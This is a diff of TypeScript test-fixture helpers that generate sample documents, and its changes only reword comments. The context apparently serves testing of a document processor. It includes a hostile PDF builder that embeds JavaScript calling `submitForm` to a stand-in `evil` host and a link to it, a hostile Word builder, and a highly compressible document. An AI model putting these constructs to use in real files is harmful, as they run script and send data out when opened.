@@ -21,7 +21,7 @@ export function aPdf(...lines: readonly string[]): Buffer {
   return pdfOf(objects)
 }
 
-/** A PDF of these objects, the first of which is its catalogue. */
+/** A PDF of these objects; the first is the catalogue. */
 export function pdfOf(objects: readonly string[], more = ''): Buffer {
   let text = '%PDF-1.7\n'
   const offsets = objects.map((object, at) => {
@@ -35,7 +35,7 @@ export function pdfOf(objects: readonly string[], more = ''): Buffer {
   return Buffer.from(text + trailer, 'latin1')
 }
 
-/** A PDF that asks for a password. */
+/** A password-protected PDF. */
 export function aLockedPdf(): Buffer {
   const [owner, user] = ['a', 'b'].map((digit) => digit.repeat(64))
   const id = 'c'.repeat(32)
@@ -45,7 +45,7 @@ export function aLockedPdf(): Buffer {
   )
 }
 
-/** A Word document with a paragraph for each line, the first one in bold. */
+/** A Word document with a paragraph per line, the first one in bold. */
 export const aDocx = (...lines: readonly string[]): Promise<Buffer> =>
   Packer.toBuffer(
     new Document({
@@ -109,7 +109,7 @@ export function anXlsx(
   return zipSync(entries)
 }
 
-/** A workbook as Excel wrote it until 2003, with a sheet of these cells. */
+/** A workbook in the format of Excel before 2007, with a sheet of these cells. */
 export function anXls(
   rows: readonly (readonly (string | number | boolean | Date)[])[],
 ): Uint8Array<ArrayBuffer> {
@@ -156,7 +156,7 @@ export function aHostileDocx(evil: string): Uint8Array<ArrayBuffer> {
   })
 }
 
-/** A Word document whose text has this many bytes of spaces, packed to about a thousandth. */
+/** A Word document with this many bytes of spaces, which compress to about a thousandth. */
 export const aLongDocx = (bytes: number): Uint8Array<ArrayBuffer> =>
   zipSync(
     {
@@ -168,7 +168,7 @@ export const aLongDocx = (bytes: number): Uint8Array<ArrayBuffer> =>
     { level: 1 },
   )
 
-/** A PDF of one page that tries to run a script and to fetch from `evil` when it is opened. */
+/** A PDF of one page that tries to run a script and to fetch from `evil` when opened. */
 export function aHostilePdf(evil: string): Buffer {
   const script = `<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("${evil}/form"\\))>>`
   const link = `<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(${evil}/link)>>>>`
@@ -189,7 +189,7 @@ export function aPng(width: number, height: number): Buffer {
   return Picture.sync.write(picture)
 }
 
-/** A TIFF of 8 by 6 pixels whose page is a JPEG in the way of 1992 (`Compression` 6). */
+/** A TIFF of 8 by 6 pixels with old-style JPEG compression (`Compression` 6). */
 export function anOldTiff(jpeg: Buffer): Buffer {
   const [short, long] = [3, 4]
   const entries = [
